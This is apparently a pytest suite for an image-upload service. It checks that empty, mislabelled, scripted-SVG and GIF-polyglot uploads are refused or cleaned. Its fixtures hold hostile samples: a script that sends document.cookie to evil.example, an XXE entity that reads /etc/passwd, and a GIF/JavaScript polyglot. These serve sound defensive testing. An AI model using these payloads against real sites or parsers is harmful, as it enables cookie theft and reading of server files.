"""The corpus manifest's gaps, synthesised: empty, wrong-extension, scripted SVG and polyglot uploads."""

from __future__ import annotations

from pathlib import Path

import pytest
from pipeline_kit import (
    OWNER,
    arrive,
    assert_done,
    assert_failed,
    assert_original_kept,
    make_service,
    presigned_arrive,
    stored_counts,
)

from imgflow.adapters.fs_store import FsObjectStore
from imgflow.errors import BadRequest, UnsupportedFormat
from imgflow.records import original_key
from imgflow.service import ImageService

SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
HTML = b"<html><body>" + SCRIPT + b"</body></html>\n"

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)">'
    + SCRIPT
    + b'<rect width="64" height="64" fill="red"/></svg>\n'
)
SVG_WITH_XXE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text>&xxe;</text></svg>\n'
)
#: GIF magic, then a logical screen whose width bytes open a JavaScript comment: a browser that
#: sniffs it as script runs the tail; an image decoder sees a 10799 x 0 screen
GIF_HEADER_POLYGLOT = b"GIF89a/*\x00\x00\x00\x00\x00*/=1;" + HTML


@pytest.fixture
def svc(tmp_path: Path) -> ImageService:
    return make_service(tmp_path)


def test_an_empty_upload_is_refused_and_stores_nothing(svc: ImageService) -> None:
    with pytest.raises(BadRequest) as caught:
        arrive(svc, b"", filename="empty.jpg", content_type="image/jpeg")
    assert (caught.value.code, caught.value.http_status) == ("empty_body", 400)
    with pytest.raises(BadRequest) as caught:
        svc.create_upload(OWNER, filename="empty.jpg", content_type="image/jpeg", size=0)
    assert caught.value.code == "invalid_size"
    assert stored_counts(svc) == (0, 0)


def test_an_empty_body_on_a_presigned_upload_stores_nothing(svc: ImageService) -> None:
    record, _ = svc.create_upload(OWNER, filename="x.jpg", content_type="image/jpeg", size=1000)
    store = svc.originals
    assert isinstance(store, FsObjectStore)
    with pytest.raises(BadRequest):  # the content-length-range starts at 1 byte, like S3's policy
        store.put_stream(record.key, [b""], content_type="image/jpeg", max_bytes=1000, min_bytes=1)
    assert list(store.list("originals/")) == []
    assert svc.upload_completed(record.key) is None
    assert svc.get(OWNER, record.image_id).status == "awaiting_upload"
    assert svc.handle_object_created(record.key).reason == "object_missing"


def test_a_short_presigned_upload_fails_with_size_mismatch(svc: ImageService, corpus: Path) -> None:
    data = (corpus / "edge/jpeg/hopper.jpg").read_bytes()
    record, _ = svc.create_upload(OWNER, filename="x.jpg", content_type="image/jpeg", size=len(data))
    store = svc.originals
    assert isinstance(store, FsObjectStore)
    half = data[: len(data) // 2]
    store.put_stream(record.key, [half], content_type="image/jpeg", max_bytes=len(data), min_bytes=1)
    assert svc.upload_completed(record.key) is not None
    assert_failed(svc, svc.handle_object_created(record.key), half, "size_mismatch")


def test_png_bytes_named_jpg_are_processed_as_png(svc: ImageService, corpus: Path) -> None:
    data = (corpus / "photos/coffee.png").read_bytes()
    record = arrive(svc, data, filename="x.jpg", content_type="image/jpeg")
    assert record.declared_type == "image/png"  # the bytes decide, not the name or the header
    assert record.key == original_key(record.image_id)
    assert svc.originals.head(record.key).content_type == "image/png"
    done = assert_done(svc, svc.handle_object_created(record.key), data)
    assert done.facts is not None
    assert (done.facts.format, done.facts.content_type) == ("png", "image/png")
    assert done.sniffed_type == "image/png"
    assert done.filename == "x.jpg"  # metadata only
    assert "x.jpg" not in " ".join(r.key for r in done.renditions)


def test_png_bytes_declared_jpeg_on_a_presigned_upload_are_processed_as_png(svc: ImageService, corpus: Path) -> None:
    """One rule on every path (issue 19): the bytes decide; the label is not a reason to fail."""
    data = (corpus / "photos/coffee.png").read_bytes()
    record = presigned_arrive(svc, data, filename="x.jpg", content_type="image/jpeg")
    outcome = svc.handle_object_created(record.key)
    assert outcome.kind == "done", outcome
    done = svc.catalog.get(record.image_id)
    assert (done.declared_type, done.sniffed_type) == ("image/jpeg", "image/png")
    assert done.facts is not None
    assert done.facts.format == "png"


@pytest.mark.parametrize("svg", [SVG_WITH_SCRIPT, SVG_WITH_XXE], ids=["script", "xxe"])
def test_an_svg_is_refused_at_the_door_and_never_decoded(svc: ImageService, svg: bytes) -> None:
    with pytest.raises(UnsupportedFormat) as caught:
        arrive(svc, svg, filename="logo.png", content_type="image/png")
    assert caught.value.http_status == 415
    assert "svg" in caught.value.message
    assert stored_counts(svc) == (0, 0)
    with pytest.raises(UnsupportedFormat):
        svc.create_upload(OWNER, filename="logo.svg", content_type="image/svg+xml", size=len(svg))
    # declared as a PNG on the presigned route, it lands; the worker refuses it by its bytes
    record = presigned_arrive(svc, svg, filename="logo.png", content_type="image/png")
    assert_failed(svc, svc.handle_object_created(record.key), svg, "unsupported_type")
    assert svc.list(OWNER, status="done").items == []


def test_a_gif_header_polyglot_fails_cleanly(svc: ImageService) -> None:
    record = arrive(svc, GIF_HEADER_POLYGLOT, filename="cat.gif", content_type="text/html")
    assert svc.originals.head(record.key).content_type == "image/gif"  # never stored as text/html
    failed = assert_failed(svc, svc.handle_object_created(record.key), GIF_HEADER_POLYGLOT, "corrupt_image")
    assert failed.error is not None
    assert "<script" not in failed.error.message


def test_a_gif_with_html_appended_is_re_encoded_without_it(svc: ImageService, corpus: Path) -> None:
    data = (corpus / "edge/gif/transparent.gif").read_bytes() + HTML
    record = arrive(svc, data, filename="cat.gif", content_type="image/gif")
    done = assert_done(svc, svc.handle_object_created(record.key), data)
    for stored in done.renditions:
        body = svc.renditions.get(stored.key, max_bytes=stored.bytes)
        assert b"<script" not in body
        assert b"<html" not in body
    assert_original_kept(svc, done, data)  # the original is kept as it came, script and all
